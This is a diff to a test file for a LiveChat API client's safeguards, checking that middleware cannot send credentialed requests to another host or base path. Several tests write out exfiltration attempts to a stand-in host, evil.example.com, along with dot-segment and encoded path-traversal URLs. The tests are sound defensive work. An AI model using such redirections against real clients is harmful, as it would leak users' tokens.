@@ -1,11 +1,13 @@
 // No way around the client's guarantees through the raw client: per-call options that would
 // skip the transport or the encoders are refused, a per-call base URL and whatever middleware
 // sends are held to the baseUrl rules, and an empty array never goes out as an empty form.
+import { inspect } from "node:util";
+import { http } from "msw";
 import { describe, expect, test, vi } from "vitest";
 import { LiveChatInputError } from "../../src/index.js";
 import { createLiveChatRawClient, PlainRequest } from "../../src/raw/index.js";
-import { API_KEY, BASIC, LOGIN } from "../helpers/fixtures.js";
-import { allowContractViolations, answer, answerJson, BASE, HttpResponse, sent, useWire } from "../helpers/wire.js";
+import { API_KEY, BASIC, LOGIN, TOKEN } from "../helpers/fixtures.js";
+import { allowContractViolations, answer, answerJson, BASE, HttpResponse, sent, server, useWire } from "../helpers/wire.js";
 
 useWire();
 
@@ -86,11 +88,13 @@ describe("per-call options that would go around the client", () => {
   });
 
   test.each([
-    ["http://evil.example/tags", "The request URL must use https:// (plain http is allowed only for 127.0.0.1, localhost and [::1]); got http://evil.example."],
+    ["http://evil.example/tags", "Middleware sent the request to http://evil.example, not to the call's base URL https://api.livechatinc.com: credentials go only to the API's origin. Return a PlainRequest whose URL starts with https://api.livechatinc.com/."],
+    ["http://api.livechatinc.com/tags", "Middleware sent the request to http://api.livechatinc.com, not to the call's base URL https://api.livechatinc.com: credentials go only to the API's origin. Return a PlainRequest whose URL starts with https://api.livechatinc.com/."],
+    ["https://api.livechatinc.com:8443/tags", "Middleware sent the request to https://api.livechatinc.com:8443, not to the call's base URL https://api.livechatinc.com: credentials go only to the API's origin. Return a PlainRequest whose URL starts with https://api.livechatinc.com/."],
     ["https://user:pw@api.livechatinc.com/tags", "The request URL must not carry credentials; the client sends them as the auth option says."],
-    ["/tags", 'The request URL "/tags" is not an absolute URL.'],
-    ["ftp://api.livechatinc.com/tags", "The request URL must be an https:// URL; got ftp://."],
-  ])("middleware that sends the request to %s is held to the baseUrl rules", async (url, message) => {
+    ["/tags", "Middleware returned a request whose URL is not absolute; return a PlainRequest whose URL starts with https://api.livechatinc.com/."],
+    ["ftp://api.livechatinc.com/tags", "Middleware sent the request to ftp://api.livechatinc.com, not to the call's base URL https://api.livechatinc.com: credentials go only to the API's origin. Return a PlainRequest whose URL starts with https://api.livechatinc.com/."],
+  ])("middleware that sends the request to %s is refused", async (url, message) => {
     answerJson([]);
     const client = raw();
     client.use({ onRequest: ({ request }) => new PlainRequest(url, request) });
@@ -102,6 +106,96 @@ describe("per-call options that would go around the client", () => {
     await refused(() => untyped().GET!("/tags", "group=1" as never), "A raw call's second argument must be an object such as { params, body }.");
     await untyped().GET!("/tags", null as never);
     expect(sent).toHaveLength(1);
+  });
+});
+
+// Nothing a user passes can send the call elsewhere: what middleware returns keeps the origin
+// and base path of the call's base URL (the client's, or the call's own), or nothing is sent.
+describe("what middleware returns keeps the call's origin and base path", () => {
+  const evil = () => {
+    const reached: string[] = [];
+    server.use(
+      http.all("https://evil.example.com/*", ({ request }) => {
+        reached.push(`${request.method} ${request.url} ${request.headers.get("authorization")}`);
+        return HttpResponse.json([]);
+      }),
+    );
+    return reached;
+  };
+
+  test("a request moved to another host is refused before the token leaves, and the error holds no secret", async () => {
+    const reached = evil();
+    const client = createLiveChatRawClient({ auth: { accessToken: TOKEN }, baseUrl: "http://127.0.0.1:8787", maxRetries: 0 });
+    client.use({ onRequest: ({ request }) => new PlainRequest("https://evil.example.com/tags", request) });
+    const error = await client.GET("/tags").catch((e: unknown) => e);
+    expect(error).toBeInstanceOf(LiveChatInputError);
+    expect((error as Error).message).toBe(
+      "Middleware sent the request to https://evil.example.com, not to the call's base URL http://127.0.0.1:8787: credentials go only to the API's origin. Return a PlainRequest whose URL starts with http://127.0.0.1:8787/.",
+    );
+    expect(reached).toEqual([]);
+    expect(sent).toHaveLength(0);
+    for (const text of [String(error), JSON.stringify(error), inspect(error), inspect(error, { showHidden: true, depth: null })]) {
+      expect(text).not.toContain("SECRET-oauth-token");
+    }
+  });
+
+  test.each([
+    ["the client's origin, from a call with its own baseUrl", "https://proxy.example.com/livechat", "https://api.livechatinc.com/tags",
+      "Middleware sent the request to https://api.livechatinc.com, not to the call's base URL https://proxy.example.com/livechat: credentials go only to the API's origin. Return a PlainRequest whose URL starts with https://proxy.example.com/livechat/."],
+    ["out of the call's base path", `${BASE}/proxy`, `${BASE}/tags`,
+      "Middleware sent the request to /tags, outside the call's base URL https://api.livechatinc.com/proxy; return a PlainRequest whose URL starts with https://api.livechatinc.com/proxy/."],
+    ["out of the call's base path by a dot segment", `${BASE}/proxy`, `${BASE}/proxy/../tags`,
+      "Middleware sent the request to /tags, outside the call's base URL https://api.livechatinc.com/proxy; return a PlainRequest whose URL starts with https://api.livechatinc.com/proxy/."],
+    ["out of the call's base path by an encoded dot segment", `${BASE}/proxy`, `${BASE}/proxy/%2e%2e/tags`,
+      "Middleware sent the request to /tags, outside the call's base URL https://api.livechatinc.com/proxy; return a PlainRequest whose URL starts with https://api.livechatinc.com/proxy/."],
+  ])("a call with a per-call baseUrl, sent by middleware to %s, is refused", async (_, baseUrl, url, message) => {
+    const reached = evil();
+    answerJson([]);
+    const client = raw();
+    client.use({ onRequest: ({ request }) => new PlainRequest(url, request) });
+    await refused(() => client.GET("/tags", { baseUrl }), message);
+    expect(reached).toEqual([]);
+  });
+
+  test("an extra path segment after the base URL is another endpoint, refused", async () => {
+    answerJson([]);
+    const client = raw();
+    client.use({ onRequest: ({ request }) => new PlainRequest(`${BASE}/v3/tags`, request) });
+    await refused(
+      () => client.GET("/tags"),
+      "Middleware turned the request into GET /v3/tags, which is not an operation of the API; return a PlainRequest for one of PUT /chats/{chat_id}/tags, GET /tags, POST /tags, DELETE /tags/{tag}, PUT /tickets/{ticket_id}/tags, GET /webhooks, POST /webhooks, DELETE /webhooks/{webhook_id}.",
+    );
+  });
+
+  test("a secret that middleware writes into the URL is scrubbed from the error", async () => {
+    answerJson([]);
+    const client = raw();
+    client.use({ onRequest: ({ request }) => new PlainRequest(`https://${API_KEY}.evil.example.com/tags`, request) });
+    await refused(
+      () => client.GET("/tags"),
+      "Middleware sent the request to https://[REDACTED].evil.example.com, not to the call's base URL https://api.livechatinc.com: credentials go only to the API's origin. Return a PlainRequest whose URL starts with https://api.livechatinc.com/.",
+    );
+    const other = raw();
+    other.use({ onRequest: ({ request }) => new PlainRequest(`${BASE}/${API_KEY}/tags`, request) });
+    const error = await other.GET("/tags").catch((e: unknown) => e);
+    expect((error as Error).message).toMatch(/^Middleware turned the request into GET \/\[REDACTED\]\/tags, which is not an operation of the API;/);
+    expect(sent).toHaveLength(0);
+  });
+
+  test("middleware that keeps the call's base URL sends there, with the credentials", async () => {
+    allowContractViolations(); // the contract check knows the spec's base URL only
+    answerJson([]);
+    const client = raw();
+    client.use({ onRequest: ({ request }) => new PlainRequest(`${request.url}?group=2`, request) });
+    await client.GET("/tags", { baseUrl: `${BASE}/proxy/` });
+    const under = createLiveChatRawClient({ auth: { login: LOGIN, apiKey: API_KEY }, baseUrl: `${BASE}/proxy` });
+    // The same origin written another way (case, the default port) is the same origin: compared parsed, not as text.
+    under.use({ onRequest: ({ request }) => new PlainRequest(request.url.replace(BASE, "HTTPS://API.LiveChatInc.com:443"), request) });
+    await under.GET("/tags");
+    expect(sent.map((s) => [s.method, s.url, s.headers.authorization])).toEqual([
+      ["GET", `${BASE}/proxy/tags?group=2`, BASIC],
+      ["GET", `${BASE}/proxy/tags`, BASIC],
+    ]);
   });
 });
 
